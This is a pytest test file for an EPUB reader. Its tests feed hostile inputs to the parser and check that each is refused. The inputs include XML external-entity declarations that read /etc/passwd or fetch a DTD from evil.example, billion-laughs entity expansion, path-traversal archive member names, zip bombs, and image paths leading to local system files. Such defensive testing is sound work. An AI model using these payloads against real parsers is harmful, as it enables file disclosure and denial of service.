from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from dsvl_data.outcome import DocumentError, Reason
from dsvl_data.read import zips
from dsvl_data.read.epub import Book, open_epub
from tests.epubs import CONTAINER, PROSE, make_epub, make_zip, opf, xhtml

FIXED = '<meta property="rendition:layout">pre-paginated</meta>'


def png(width: int = 4, height: int = 3) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), "red").save(out, "PNG")
    return out.getvalue()


def text_of(book: Book, position: int = 0) -> str:
    return "".join(map(str, book.chapter(book.spine[position]).root.itertext()))


def reason_of(data: bytes) -> Reason:
    with pytest.raises(DocumentError) as caught:
        open_epub(data)
    return caught.value.reason


def chapter_reason(book: Book, position: int = 0) -> Reason:
    with pytest.raises(DocumentError) as caught:
        book.chapter(book.spine[position])
    return caught.value.reason


def test_the_spine_is_read_in_its_own_order() -> None:
    book = open_epub(
        make_epub(
            {"b.xhtml": "<p>second</p>", "a.xhtml": "<p>first</p>"},
            spine='<itemref idref="c1"/><itemref idref="c0" linear="no"/><itemref idref="c1"/>',
        )
    )
    assert (book.title, book.language) == ("A book", "en")
    assert [item.name for item in book.spine] == ["OEBPS/a.xhtml", "OEBPS/b.xhtml"]
    assert [item.linear for item in book.spine] == [True, False]
    assert "first" in text_of(book)


def test_epub_2_with_ncx_guide_and_titles() -> None:
    ncx = (
        '<?xml version="1.0"?><!DOCTYPE ncx PUBLIC "-//NISO//DTD ncx 2005-1//EN" '
        '"http://www.daisy.org/z3986/2005/ncx-2005-1.dtd"><ncx '
        'xmlns="http://www.daisy.org/z3986/2005/ncx/"><navMap><navPoint><navLabel><text>One &amp; '
        'all</text></navLabel><content src="a.xhtml"/></navPoint></navMap></ncx>'
    )
    book = open_epub(
        make_epub(
            {"a.xhtml": PROSE, "toc.html": PROSE},
            files={"OEBPS/toc.ncx": ncx},
            manifest='<item id="n" href="toc.ncx" media-type="application/x-dtbncx+xml"/>'
            '</manifest><guide><reference type="toc" href="toc.html"/></guide><manifest>',
        )
    )
    assert book.spine[0].title == "One & all"
    assert [book.chapter(item).navigation for item in book.spine] == [False, True]


def test_hrefs_are_percent_encoded_or_differ_in_case_or_normal_form() -> None:
    hrefs = ["Chapter%201.xhtml", "TEXT/Two.xhtml", "caf\u00e9.xhtml"]
    members = {
        "META-INF/container.xml": CONTAINER,
        "OEBPS/content.opf": opf(hrefs),
        "OEBPS/Chapter 1.xhtml": xhtml("<p>one</p>"),
        "OEBPS/text/two.XHTML": xhtml("<p>two</p>"),
        "OEBPS/cafe\u0301.xhtml": xhtml("<p>three</p>"),
    }
    book = open_epub(make_zip(members))
    assert [text_of(book, i)[1:] for i in range(3)] == ["one", "two", "three"]


def test_a_missing_chapter_is_that_chapters_failure() -> None:
    data = make_epub(
        {"a.xhtml": PROSE},
        spine='<itemref idref="c0"/><itemref idref="none"/><itemref idref="g"/>',
        manifest='<item id="g" href="gone.xhtml" media-type="application/xhtml+xml"/>',
    )
    book = open_epub(data)
    assert "maintainer" in text_of(book)
    assert chapter_reason(book, 1) is Reason.UNREADABLE
    assert chapter_reason(book, 2) is Reason.UNREADABLE


@pytest.mark.parametrize(
    "encoding", ["utf-16", "utf-16-le", "gb2312", "big5", "shift_jis", "utf-8-sig"]
)
def test_encodings(encoding: str) -> None:
    text = "一二三"
    declared = encoding.replace("-le", "").replace("-sig", "")
    markup = f'<?xml version="1.0" encoding="{declared}"?><html><body><p>{text}</p></body></html>'
    book = open_epub(make_epub({"a.xhtml": markup.encode(encoding)}))
    assert text_of(book).strip() == text


def test_a_chapter_that_is_no_xml_is_read_as_html() -> None:
    book = open_epub(make_epub({"a.xhtml": b"<html><body><p>one & two <p>three &nbsp; <br>four"}))
    assert text_of(book).split() == ["one", "&", "two", "three", "four"]


def test_named_entities_need_no_dtd() -> None:
    dtd = '"-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd"'
    markup = (
        f"<!DOCTYPE html PUBLIC {dtd}><html><body><p>a&nbsp;&eacute;&hellip;&lt;</p></body></html>"
    )
    assert text_of(open_epub(make_epub({"a.xhtml": markup}))) == "a\u00a0é…<"


@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        '<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;',
        '<!ENTITY x "lol"><!ENTITY y "&x;&x;&x;&x;"><!ENTITY z "&y;&y;&y;&y;">',
        "<!eNtItY x 'lower'>",
    ],
)
def test_entities_are_refused_in_a_chapter_and_in_the_package(subset: str) -> None:
    hostile = f"<!DOCTYPE html [{subset}]><html><body><p>&x;</p></body></html>"
    book = open_epub(make_epub({"a.xhtml": hostile, "b.xhtml": PROSE}))
    assert chapter_reason(book) is Reason.XML_ENTITIES
    assert "maintainer" in text_of(book, 1)
    package = opf(["a.xhtml"]).replace("<package", f"<!DOCTYPE package [{subset}]><package", 1)
    assert reason_of(make_epub({"a.xhtml": PROSE}, package=package)) is Reason.XML_ENTITIES


def test_deep_nesting_and_huge_chapters_fail_alone() -> None:
    deep = b"<html><body>" + b"<div>" * 1_000_000 + b"x"
    huge = b"<html><body><p>" + b"word " * 4_000_000 + b"</p></body></html>"
    wellformed = "<html><body>" + "<div>" * 230 + "x" + "</div>" * 230 + "</body></html>"
    book = open_epub(make_epub({"a.x": deep, "b.x": huge, "c.x": wellformed, "d.x": PROSE}))
    assert chapter_reason(book, 0) is Reason.BAD_MARKUP
    assert chapter_reason(book, 1) is Reason.TOO_LARGE
    assert chapter_reason(book, 2) is Reason.BAD_MARKUP
    assert "maintainer" in text_of(book, 3)


def test_an_empty_spine_and_an_empty_chapter() -> None:
    assert reason_of(make_epub({"a.xhtml": PROSE}, spine="")) is Reason.EMPTY_DOCUMENT
    book = open_epub(make_epub({"a.xhtml": b"", "b.xhtml": PROSE}))
    assert chapter_reason(book) is Reason.EMPTY_DOCUMENT


@pytest.mark.parametrize("keep", [0, 10, 300, -40, -1])
def test_a_truncated_book(keep: int) -> None:
    assert reason_of(make_epub({"a.xhtml": PROSE * 20})[:keep]) is Reason.BAD_ARCHIVE


def test_an_archive_that_is_no_epub() -> None:
    assert reason_of(make_zip({"readme.txt": "hello"})) is Reason.BAD_ARCHIVE


def test_without_a_container_the_package_is_found_by_its_name() -> None:
    data = make_zip({"x/book.opf": opf(["a.xhtml"]), "x/a.xhtml": xhtml(PROSE)})
    assert open_epub(data).spine[0].name == "x/a.xhtml"


@pytest.mark.parametrize(
    "name", ["../evil.xhtml", "OEBPS/../../evil", "/etc/passwd", "a\\..\\b", "C:/x", "..\\evil"]
)
def test_member_names_that_lead_out(name: str) -> None:
    assert reason_of(make_epub({"a.xhtml": PROSE}, files={name: "x"})) is Reason.UNSAFE_PATH


def test_a_manifest_that_leads_out_is_not_followed() -> None:
    book = open_epub(
        make_epub(
            {"a.xhtml": PROSE},
            manifest='<item id="e" href="../../../etc/passwd" media-type="application/xhtml+xml"/>',
            spine='<itemref idref="c0"/><itemref idref="e"/>',
        )
    )
    assert "maintainer" in text_of(book)
    assert chapter_reason(book, 1) is Reason.UNSAFE_PATH


def test_a_zip_bomb_is_known_by_its_header() -> None:
    data = make_epub({"a.xhtml": PROSE}, files={"bomb.bin": b"\0" * 50_000_000})
    assert len(data) < 100_000
    assert reason_of(data) is Reason.ARCHIVE_BOMB


def test_a_bomb_whose_header_lies_stops_at_the_size_it_declares() -> None:
    content = xhtml("<p>" + "a" * 30_000_000 + "</p>").encode()
    data = bytearray(make_epub({"a.xhtml": content}))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = data.find(mark)
        while start >= 0:
            if struct.unpack_from("<I", data, start + offset)[0] == len(content):
                struct.pack_into("<I", data, start + offset, 5000)
            start = data.find(mark, start + 4)
    assert chapter_reason(open_epub(bytes(data))) is Reason.ARCHIVE_BOMB


def test_members_that_overlap() -> None:
    data = bytearray(make_epub({"a.xhtml": PROSE}, files={"b": b"b" * 300, "c": b"c" * 300}))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    offset = archive.getinfo("b").header_offset
    entry = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, entry + 42, offset)
    assert reason_of(bytes(data)) is Reason.ARCHIVE_BOMB


def test_two_members_of_one_name() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/container.xml", CONTAINER)
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("META-INF/container.xml", "<other/>")
    assert reason_of(out.getvalue()) is Reason.BAD_ARCHIVE


def test_a_damaged_member_is_that_chapters_failure() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:  # stored: a changed byte is no broken stream
        archive.writestr("META-INF/container.xml", CONTAINER)
        archive.writestr("OEBPS/content.opf", opf(["a.xhtml", "b.xhtml"]))
        archive.writestr("OEBPS/a.xhtml", xhtml("<p>intact words</p>"))
        archive.writestr("OEBPS/b.xhtml", xhtml(PROSE))
    book = open_epub(out.getvalue().replace(b"intact words", b"broken words"))
    assert chapter_reason(book) is Reason.BAD_ARCHIVE
    assert "maintainer" in text_of(book, 1)


def test_too_many_members(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(zips, "MAX_MEMBERS", 3)
    assert reason_of(make_epub({"a.xhtml": PROSE})) is Reason.ARCHIVE_BOMB


def encryption(algorithm: str, uri: str) -> str:
    return (
        '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
        'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData><enc:EncryptionMethod '
        f'Algorithm="{algorithm}"/><enc:CipherData><enc:CipherReference URI="{uri}"/>'
        "</enc:CipherData></enc:EncryptedData></encryption>"
    )


@pytest.mark.parametrize(
    ("algorithm", "reason"),
    [
        ("http://www.idpf.org/2008/embedding", None),
        ("http://ns.adobe.com/pdf/enc#RC", None),
        ("http://www.w3.org/2001/04/xmlenc#aes128-cbc", Reason.ENCRYPTED),
    ],
)
def test_obfuscated_fonts_are_fine_and_encryption_is_not(
    algorithm: str, reason: Reason | None
) -> None:
    files = {"META-INF/encryption.xml": encryption(algorithm, "OEBPS/font.otf")}
    data = make_epub({"a.xhtml": PROSE}, files=files)
    if reason is None:
        assert "maintainer" in text_of(open_epub(data))
    else:
        assert reason_of(data) is reason


def test_fixed_layout_of_the_book_and_of_an_item() -> None:
    assert reason_of(make_epub({"a.xhtml": PROSE}, metadata=FIXED)) is Reason.FIXED_LAYOUT
    book = open_epub(
        make_epub(
            {"a.xhtml": PROSE, "b.xhtml": PROSE},
            metadata=FIXED,
            spine='<itemref idref="c0"/>'
            '<itemref idref="c1" properties="rendition:layout-reflowable"/>',
        )
    )
    assert chapter_reason(book) is Reason.FIXED_LAYOUT
    assert "maintainer" in text_of(book, 1)


@pytest.mark.parametrize(
    ("body", "navigation"),
    [
        ('<nav epub:type="toc"><ol><li><a href="a.xhtml">A</a></li></ol></nav>', True),
        ('<section epub:type="cover"><p>A book by somebody</p></section>', True),
        ("<ul>" + "<li><a href='a.xhtml#x'>A section title</a> 3</li>" * 12 + "</ul>", True),
        (PROSE + "<p><a href='b.xhtml'>see there</a></p>" * 9, False),
        (
            PROSE + "<nav epub:type='toc'><ol><li><a href='#x'>a</a></li></ol></nav>" + PROSE * 3,
            False,
        ),
        ("<p>" + "<a href='https://example.org/'>a page of the web</a> " * 20 + "</p>", False),
        ("<p>" + "<a href='http://[no/address'>a broken link</a> " * 20 + "</p>", False),
    ],
)
def test_navigation_is_told_from_text(body: str, navigation: bool) -> None:
    book = open_epub(make_epub({"a.xhtml": body}))
    assert book.chapter(book.spine[0]).navigation is navigation


@pytest.mark.parametrize(
    ("css", "vertical", "direction"),
    [
        ("html { -epub-writing-mode: vertical-rl }", True, ""),
        (".vrtl, p.x { writing-mode: vertical-rl; }", True, ""),
        ("body { direction: rtl }", False, "rtl"),
        ("p { writing-mode: vertical-rl; direction: rtl }", False, ""),
        (
            "/* html { writing-mode: vertical-rl } */ body { writing-mode: horizontal-tb }",
            False,
            "",
        ),
        ("@media all { body { writing-mode: vertical-rl } }", True, ""),
    ],
)
def test_style_sheets_say_how_the_text_runs(css: str, vertical: bool, direction: str) -> None:
    link = '<link rel="stylesheet" href="../style/s.css"/>'
    chapter = xhtml(PROSE, link, 'class="vrtl"')
    book = open_epub(make_epub({"t/a.xhtml": chapter}, files={"OEBPS/style/s.css": css}))
    source = book.chapter(book.spine[0])
    assert (source.vertical, source.direction) == (vertical, direction)


def test_page_progression() -> None:
    progression = 'page-progression-direction="rtl"'
    assert open_epub(make_epub({"a.xhtml": PROSE}, progression=progression)).right_to_left


def test_pictures_are_found_by_relative_paths_inside_the_book_only() -> None:
    book = open_epub(
        make_epub({"text/a.xhtml": PROSE}, files={"OEBPS/img/My pic.png": png(), "x.svg": "<svg/>"})
    )
    item = book.spine[0]
    found = book.picture(item, "../img/My%20pic.PNG")
    assert found is not None
    assert found.data == png()
    assert book.picture(item, "../../x.svg") is not None
    assert book.picture(item, "none.png") is None
    for path, reason in (
        ("http://evil.example/x.png", Reason.NEEDS_NETWORK),
        ("//evil.example/x.png", Reason.NEEDS_NETWORK),
        ("file:///etc/passwd", Reason.UNSAFE_PATH),
        ("../../../../etc/passwd", Reason.UNSAFE_PATH),
        ("/etc/passwd", Reason.UNSAFE_PATH),
    ):
        with pytest.raises(DocumentError) as caught:
            book.picture(item, path)
        assert caught.value.reason is reason, path


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_a_damaged_book_fails_with_a_reason_or_not_at_all(data: st.DataObject) -> None:
    book = bytearray(make_epub({"a.xhtml": PROSE, "b.xhtml": "<p>b</p>"}))
    for _ in range(data.draw(st.integers(1, 4))):
        book[data.draw(st.integers(0, len(book) - 1))] = data.draw(st.integers(0, 255))
    try:
        opened = open_epub(bytes(book))
    except DocumentError:
        return
    for item in opened.spine:
        try:
            opened.chapter(item)
        except DocumentError:
            continue


def test_the_real_books_open(real_data: Path) -> None:
    spines = {}
    for path in sorted((real_data / "ebooks").glob("*.epub")):
        book = open_epub(path.read_bytes())
        spines[path.name] = (len(book.spine), sum(book.chapter(i).navigation for i in book.spine))
    assert spines == {
        "debmake-doc.en.epub": (13, 2),
        "debmake-doc.zh-cn.epub": (13, 2),
        "policy.epub": (25, 2),
    }
